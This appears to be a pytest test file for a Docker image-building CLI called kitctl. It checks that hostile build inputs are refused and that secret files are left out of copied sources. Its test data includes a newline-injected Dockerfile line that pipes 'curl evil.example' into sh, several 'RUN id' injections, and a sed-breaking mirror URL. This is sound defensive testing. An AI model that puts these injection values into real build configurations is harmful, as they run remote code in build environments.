"""The edge of the images/host areas (issue 11): every bad build input is refused with exit 2 before it reaches a
Dockerfile, a build arg, a shell line or the file system; nothing is left behind by a refusal.

Table-driven: each row is one hostile value for one field, checked at the function that guards it; a few rows
also run through the CLI to prove the exit code and the message."""
from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

import kitctl_proc

from kitctl.core import pins
from kitctl.core.config import KitConfig, Mirrors
from kitctl.core.errors import KitError
from kitctl.host import gpus
from kitctl.host.runtimes import ContainerSpec, docker_run_argv, gpu_container_flags
from kitctl.images import context, inputs, llmc_source
from kitctl.images import render as rendering
from kitctl.images import request

PEM = "-----BEGIN CERTIFICATE-----\nMIIBfake\n-----END CERTIFICATE-----\n"
INJECT = "debian:bookworm\nRUN curl evil.example | sh"

# (id, build request keywords, KitConfig keywords, substring of the error)
BAD_REQUESTS = [
    ("base-image-newline-injects-run", {"base_image": INJECT}, {}, "not valid"),
    ("base-image-space", {"base_image": "debian bookworm"}, {}, "not valid"),
    ("base-image-quote", {"base_image": 'debian:"x"'}, {}, "not valid"),
    ("base-image-upper-case-name", {"base_image": "Debian:bookworm"}, {}, "not valid"),
    ("base-image-from-kit-yaml", {}, {"base_image": "x\nRUN id"}, "base_image"),
    ("registry-newline", {}, {"mirrors": Mirrors(registry="m.example\nRUN id")}, "mirrors.registry"),
    ("registry-with-scheme", {}, {"mirrors": Mirrors(registry="https://m.example")}, "mirrors.registry"),
    ("apt-mirror-hash-breaks-sed", {}, {"mirrors": Mirrors(apt="http://m.example/#g; s#x")}, "mirrors.apt"),
    ("apt-mirror-newline", {}, {"mirrors": Mirrors(apt="http://m.example\nRUN id")}, "mirrors.apt"),
    ("apt-mirror-not-a-url", {}, {"mirrors": Mirrors(apt="mirrors.example")}, "not a plain http(s) url"),
    ("pip-index-credentials", {}, {"mirrors": Mirrors(pip_index="https://u:secret@pypi.example/simple")},
     "credentials"),
    ("pip-index-space", {}, {"mirrors": Mirrors(pip_index="https://pypi.example/simple --trusted-host x")},
     "mirrors.pip_index"),
    ("image-name-with-tag", {}, {"image": "llmc-kit:v1"}, "image"),
    ("image-name-newline", {}, {"image": "llmc\nRUN id"}, "image"),
    ("cuda-newline", {"cuda": "12.8.1\nRUN id"}, {}, "known:"),
    ("cuda-newline-with-base", {"cuda": "12.5\nRUN id", "base_image": "r.example/nvidia/cuda:12.5.1-cudnn-devel"},
     {}, "known:"),
    ("arch-unknown", {"archs": [99]}, {}, "unknown compute capability"),
    ("arch-empty", {"archs": []}, {}, "empty"),
    ("arch-as-text-8.65", {"archs": ["8.65"]}, {}, "8.65"),
    ("provider-unknown", {"provider": "conda"}, {}, "--provider"),
    ("target-unknown", {"target": "everything"}, {}, "--target"),
]


@pytest.mark.parametrize("kw,cfg_kw,says", [r[1:] for r in BAD_REQUESTS], ids=[r[0] for r in BAD_REQUESTS])
def test_bad_build_inputs_are_refused_with_exit_2(kw, cfg_kw, says):
    with pytest.raises(KitError) as e:
        request.BuildRequest.from_config(KitConfig(**cfg_kw), **kw)
    assert e.value.exit_code == 2 and e.value.hint
    assert says.lower() in (e.value.message + e.value.hint).lower(), e.value.message
    assert "\n" not in e.value.message.split(":")[0]


def test_good_values_of_the_same_fields_pass():
    cfg = KitConfig(image="registry.example.com:5000/team/llmc-kit",
                    mirrors=Mirrors(registry="docker.m.daocloud.io", apt="https://mirrors.tuna.tsinghua.edu.cn",
                                    pip_index="https://pypi.tuna.tsinghua.edu.cn/simple"))
    req = request.BuildRequest.from_config(cfg, provider="wheels", base_image="localhost:5000/debian:bookworm@sha256:"
                                           + "a" * 64, archs=[75, 86])
    text = rendering.render(req)
    assert "FROM localhost:5000/debian:bookworm@sha256:" in text
    nv = request.base_images(request.BuildRequest.from_config(cfg))
    assert nv["toolchain"] == "docker.m.daocloud.io/nvidia/cuda:12.8.1-cudnn-devel-ubuntu24.04"


def test_no_value_can_start_a_dockerfile_instruction():
    """The last guard: even a BuildRequest made by hand (no from_config) cannot put a newline into the file."""
    req = request.BuildRequest(provider="wheels", cuda="13.0", base_image="debian:bookworm")
    req.image = "x\nRUN id"
    with pytest.raises(KitError, match="control character"):
        rendering.render(req)
    req = request.BuildRequest(provider="wheels", cuda="13.0", base_image="a\nRUN id")
    with pytest.raises(KitError):
        rendering.render(req)


@pytest.mark.parametrize("text,says", [
    ("8.65", "8.65"), ("inf", "inf"), ("nan", "nan"), ("-7.5", "-7.5"), ("7.55", "7.55"), ("sm_7.5x", "7.5x"),
    ("75;86", "75;86"), ("", "empty"), (",", "empty"), ("99", "unknown compute capability [99]"),
    ("8.6\nRUN", "8.6"),
])
def test_arch_text_is_parsed_strictly(text, says):
    with pytest.raises(KitError) as e:
        inputs.parse_archs(text)
    assert e.value.exit_code == 2 and says in e.value.message


def test_arch_text_forms_that_mean_the_same():
    for text in ("75,86", "7.5,8.6", "sm_75 sm_86", "86,75,86", "compute_75, 8.6"):
        assert inputs.parse_archs(text) == [75, 86]


# (id, inventory text, substring of the error)
BAD_INVENTORIES = [
    ("capability-inf", "0, RTX 3090, inf, 24576 MiB, 570.86.10\n", "cannot read"),
    ("capability-8.65", "0, RTX 3090, 8.65, 24576 MiB, 570.86.10\n", "cannot read"),
    ("capability-nan", "0, RTX 3090, nan, 24576 MiB, 570.86.10\n", "cannot read"),
    ("duplicate-index", "0, RTX 3090, 8.6, 24576 MiB, 570.86\n0, RTX 3090, 8.6, 24576 MiB, 570.86\n",
     "index 0 appears twice"),
    ("negative-memory", "0, RTX 3090, 8.6, -5 MiB, 570.86\n", "memory"),
    ("negative-index", "-1, RTX 3090, 8.6, 24576 MiB, 570.86\n", "index"),
    ("driver-words", "0, RTX 3090, 8.6, 24576 MiB, latest\n", "driver"),
    ("empty-name", "0, , 8.6, 24576 MiB, 570.86\n", "cannot read"),
    ("four-fields", "0, RTX 3090, 8.6, 24576 MiB\n", "expected 5 fields"),
    # what tests/hostile/cases.py's doctor-/train-/reproduce-inventory-* cases asserted, one CLI run each before;
    # each command keeps one inventory case there (doctor-inventory-missing, train-inventory-missing, ...)
    ("capability-inf-hint", "0, RTX 3090, inf, 24576 MiB, 570.86\n", "compute_cap"),
    ("three-fields", "0, RTX 3090, 8.6\n", "expected 5 fields"),
    ("empty", "", "lists no GPU"),
    ("latin1", "0, GeForce \xae, 8.6, 24576 MiB, 570\n", "not UTF-8"),
    ("nul-bytes", "\0" * 64, "binary"),
]


@pytest.mark.parametrize("text,says", [r[1:] for r in BAD_INVENTORIES], ids=[r[0] for r in BAD_INVENTORIES])
def test_bad_inventories_are_refused(tmp_path, text, says):
    f = tmp_path / "gpus.csv"
    f.write_bytes(text.encode("latin-1" if "\xae" in text else "utf-8"))
    with pytest.raises(KitError) as e:
        gpus.load_inventory(f)
    assert e.value.exit_code == 2 and says in (e.value.message + " " + (e.value.hint or "")), e.value.message
    assert str(f) in e.value.message and e.value.hint         # names the file, says how to make a good one


@pytest.mark.parametrize("make,says", [
    (lambda p: p.mkdir(), "is a folder"),
    (lambda p: p.write_bytes(b"\x00\x01binary\xff"), "not UTF-8"),
    (lambda p: p.write_bytes(b"0, a\x00, 8.6, 1 MiB, 570\n"), "binary"),
    (lambda p: None, "does not exist"),
])
def test_inventory_files_that_are_not_csv(tmp_path, make, says):
    f = tmp_path / "inv.csv"
    make(f)
    with pytest.raises(KitError) as e:
        gpus.load_inventory(f)
    assert e.value.exit_code == 2 and says in e.value.message


@pytest.mark.parametrize("content,says", [
    (None, "no such file"), ("", "not a PEM"), ("hello\n", "not a PEM"), (b"\x30\x82\x01\x0a", "not a PEM"),
    ("dir", "is a folder"),
])
def test_ca_bundle_must_be_pem(tmp_path, content, says):
    ca = tmp_path / "ca.pem"
    if content == "dir":
        ca.mkdir()
    elif isinstance(content, bytes):
        ca.write_bytes(content)
    elif content is not None:
        ca.write_text(content)
    with pytest.raises(KitError) as e:
        request.BuildRequest.from_config(KitConfig(ca_cert=ca))
    assert e.value.exit_code == 2 and says in e.value.message
    ca2 = tmp_path / "good.pem"
    ca2.write_text(PEM)
    assert request.BuildRequest.from_config(KitConfig(ca_cert=ca2)).ca_cert == ca2


def test_render_out_never_empties_a_folder_it_did_not_make(tmp_path):
    req = request.BuildRequest.from_config(KitConfig(), provider="wheels")
    mine = tmp_path / "mine"
    (mine / "notes").mkdir(parents=True)
    (mine / "thesis.tex").write_text("years of work\n")
    (mine / "notes" / "a.txt").write_text("x\n")
    with pytest.raises(KitError) as e:
        context.prepare_context(req, mine, fetch_source=False)
    assert e.value.exit_code == 2 and "kitctl replaces only folders it made" in e.value.message
    assert sorted(p.name for p in mine.rglob("*")) == ["a.txt", "notes", "thesis.tex"]     # untouched
    f = tmp_path / "file"
    f.write_text("x")
    with pytest.raises(KitError, match="not a folder"):
        context.prepare_context(req, f, fetch_source=False)
    assert f.read_text() == "x"


def test_render_out_refreshes_its_own_earlier_output_only(tmp_path):
    req = request.BuildRequest.from_config(KitConfig(), provider="wheels")
    out = tmp_path / "ctx"
    context.prepare_context(req, out, fetch_source=False)
    assert (out / context.STAMP).is_file() and (out / "Dockerfile").is_file()
    (out / "native" / "stale.sh").write_text("old")         # an entry kitctl wrote: replaced
    (out / "my-notes.txt").write_text("keep me")             # not kitctl's: kept
    context.prepare_context(req, out, fetch_source=False)
    assert not (out / "native" / "stale.sh").exists() and (out / "my-notes.txt").read_text() == "keep me"
    empty = tmp_path / "empty"
    empty.mkdir()
    assert context.prepare_context(req, empty, fetch_source=False).path == empty   # an empty folder is fine


def test_llmc_checkout_copies_only_the_allow_list(tmp_path):
    co = tmp_path / "llm.c"
    for rel, data in {
        "train_gpt2.cu": "x", "Makefile": "all:\n", "llmc/a.cuh": "y", "dev/data/fineweb.py": "z",
        "dev/cuda/Makefile": "m", "scripts/run.sh": "s", "doc/x.md": "d", "LICENSE": "mit",
        ".env": "HF_TOKEN=hf_secret", ".git/config": "[remote]", "dev/.env.local": "AWS_SECRET=1",
        "dev/id_rsa": "-----BEGIN OPENSSH PRIVATE KEY-----", "server.key": "k", "ca.pem": "p",
        "gpt2_124M.bin": "\0", "dev/data/shard.bin": "\0", "secrets/token.txt": "t", ".ssh/id_ed25519": "k",
        "notes.ipynb": "{}", "dev/data/big.txt": "\0" * (llmc_source.MAX_FILE + 1),
    }.items():
        p = co / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(data)
    (co / "llmc" / "link.h").symlink_to(co / ".env")
    src = llmc_source.fetch(str(co), tmp_path / "ctx" / "llmc")
    got = sorted(str(p.relative_to(tmp_path / "ctx" / "llmc")) for p in (tmp_path / "ctx" / "llmc").rglob("*")
                 if p.is_file())
    assert got == ["LICENSE", "Makefile", "dev/cuda/Makefile", "dev/data/fineweb.py", "doc/x.md", "llmc/a.cuh",
                   "scripts/run.sh", "train_gpt2.cu"]
    assert ".env" in src.left_out and ".git/" in src.left_out and "secrets/" in src.left_out


def test_empty_llmc_src_is_refused(tmp_path):
    with pytest.raises(KitError) as e:
        llmc_source.fetch("  ", tmp_path / "x")
    assert e.value.exit_code == 2


def test_one_set_of_gpu_container_flags():
    """train, smoke, doctor and compose.yaml share gpu_container_flags: shm per rank, memlock, 64 MiB stack."""
    assert gpu_container_flags(1) == {"shm_size": "1g", "ipc": None, "ulimits": ["memlock=-1", "stack=67108864"]}
    assert gpu_container_flags(8)["shm_size"] == "8g" and gpu_container_flags(0)["shm_size"] == "1g"
    spec = ContainerSpec(image="i", argv=["x"], gpus=[0, 1])           # a GPU spec without flags gets them
    argv = docker_run_argv(spec)
    assert "--shm-size 2g" in " ".join(argv) and argv.count("--ulimit") == 2 and "--ipc=host" not in argv
    assert ContainerSpec(image="i", argv=["x"], gpus="all", ranks=4).shm_size == "4g"
    assert ContainerSpec(image="i", argv=["x"], gpus="all", shm_size="3g").shm_size == "3g"   # explicit wins
    cpu = ContainerSpec(image="i", argv=["x"])
    assert cpu.shm_size is None and cpu.ulimits == []                 # CPU containers get nothing extra
    from kitctl.images import smoke
    assert smoke.spec("img", "75,86", np=2, gpus=True).shm_size == "2g"


def kit(tmp_path: Path, *args: str, config: str = "data_root: ./data\n") -> subprocess.CompletedProcess:
    (tmp_path / "kit.yaml").write_text(config)
    r = kitctl_proc.run(["--config", tmp_path / "kit.yaml", *args], cwd=tmp_path, env={**os.environ, "COLUMNS": "200"})
    r.stderr = " ".join(r.stderr.split())
    return r


# One forked kitctl per value the in-process tables lack. Moved out (each is an in-process CLI case of
# tests/hostile/cases.py, and its value is in a unit table): render --arch 8.65 (render-arch-8.65), build --arch inf
# (build-arch-8.65; tests/core/test_validate.py::test_arch_list_names_what_is_wrong), render --out mine
# (render-out-non-empty-user-folder, which asserts the same hint), smoke --np 0 (smoke-np-zero), doctor --inventory
# with a repeated index (doctor-inventory-missing; test_bad_inventories_are_refused[duplicate-index]).
@pytest.mark.slow
@pytest.mark.parametrize("args,config,says", [
    (["render", "--stdout", "--base-image", INJECT], "", "--base-image"),
    (["build", "--dry-run", "--provider", "wheels"], "mirrors:\n  apt: 'http://x/#g; s#y'\n", "mirrors.apt"),
])
def test_cli_refusals_exit_2_with_a_hint(tmp_path, args, config, says):
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "thesis.tex").write_text("years of work\n")
    (tmp_path / "dup.csv").write_text("0, RTX 3090, 8.6, 24576 MiB, 570.86\n0, RTX 3090, 8.6, 24576 MiB, 570.86\n")
    r = kit(tmp_path, *args, config="data_root: ./data\n" + config)
    assert r.returncode == 2, r.stdout + r.stderr
    assert says in r.stderr and "hint:" in r.stderr and "internal error" not in r.stderr
    assert "Traceback" not in r.stderr and "RUN curl" not in r.stdout
    assert (tmp_path / "mine" / "thesis.tex").read_text() == "years of work\n"
    assert not (tmp_path / ".kit").exists() or not any((tmp_path / ".kit").rglob("Dockerfile"))


@pytest.mark.slow
def test_wheels_with_an_old_driver_names_the_cuda12_paths(tmp_path):
    (tmp_path / "gpus.csv").write_text("0, NVIDIA GeForce RTX 3090, 8.6, 24576 MiB, 570.86.10\n")
    r = kit(tmp_path, "build", "--dry-run", "--provider", "wheels", "--inventory", "gpus.csv", "--arch", "86")
    assert r.returncode == 2, r.stdout + r.stderr
    for word in ("CUDA <= 12.8", "nvidia-cuda-nvcc-cu12", "no nvcc", "--provider nvidia --cuda 12.8.1",
                 "--runtime native", "580"):
        assert word in r.stderr, word
    assert not (tmp_path / ".kit" / "build" / "context" / "Dockerfile").exists()
    # the nvidia provider with the same driver builds, and with a 550 driver it picks the newest CUDA it runs
    (tmp_path / "old.csv").write_text("0, NVIDIA GeForce RTX 3090, 8.6, 24576 MiB, 550.54.14\n")
    r = kit(tmp_path, "build", "--dry-run", "--provider", "nvidia", "--inventory", "old.csv", "--arch", "86",
            "--target", "toolchain")
    assert r.returncode == 0, r.stdout + r.stderr
    assert "llmc-kit:toolchain-nvidia-cu12.4-sm86-" in r.stdout and "CUDA 12.4.1" in r.stderr


def test_pins_file_is_typed_and_strict(tmp_path, monkeypatch):
    p = pins.load()
    assert p.providers.wheels.cuda == "13.0" and p.llmc.commit == pins.llmc_commit()
    assert list(pins.cuda_images()) == sorted(pins.cuda_images(), key=lambda v: tuple(map(int, v.split("."))))
    assert pins.newest_cuda_image("12.4") == "12.4.1" and pins.newest_cuda_image("11.8") is None
    assert pins.newest_cuda_image("13.0", cap="12.8.1") == "12.8.1"
    assert pins.pins()["llmc"]["commit"] == p.llmc.commit                     # the dict view stays
    bad = pins.VERSIONS_FILE.read_text().replace("hadolint: \"2.15.1\"", "hadolint: \"2.15.1\"\n  hadolnt: x")
    f = tmp_path / "versions.yaml"
    f.write_text(bad)
    monkeypatch.setattr(pins, "VERSIONS_FILE", f)
    pins.load.cache_clear()
    try:
        with pytest.raises(KitError, match="tools.hadolnt: unknown key"):
            pins.load()
        f.write_text(pins.VERSIONS_FILE.read_text().replace('base_image: "debian:bookworm"',
                                                            'base_image: "debian:bookworm RUN id"', 1)
                     .replace("hadolnt: x", ""))
        pins.load.cache_clear()
        with pytest.raises(KitError, match="not a valid image reference"):
            pins.load()
    finally:
        monkeypatch.undo()
        pins.load.cache_clear()


@pytest.mark.slow
def test_a_refused_or_interrupted_render_leaves_nothing(tmp_path, monkeypatch):
    req = request.BuildRequest.from_config(KitConfig(), provider="wheels", llmc_src=str(tmp_path / "nope"))
    with pytest.raises(KitError) as e:
        context.prepare_context(req, tmp_path / "new" / "ctx", fetch_source=True)
    assert e.value.exit_code == 2 and "nope" in e.value.message
    assert list(tmp_path.iterdir()) == []                                  # not even the parent folders
    ok = request.BuildRequest.from_config(KitConfig(), provider="wheels")
    out = tmp_path / "ctx"
    context.prepare_context(ok, out, fetch_source=False)
    before = {p.relative_to(out): p.stat().st_mtime_ns for p in out.rglob("*")}

    def interrupted(*_a, **_k):
        raise KeyboardInterrupt
    monkeypatch.setattr(context, "render", interrupted)
    with pytest.raises(KeyboardInterrupt):
        context.prepare_context(ok, out, fetch_source=False)
    assert {p.relative_to(out): p.stat().st_mtime_ns for p in out.rglob("*")} == before   # the old one, whole
    assert [p.name for p in tmp_path.iterdir()] == ["ctx"]                 # no temp folder left
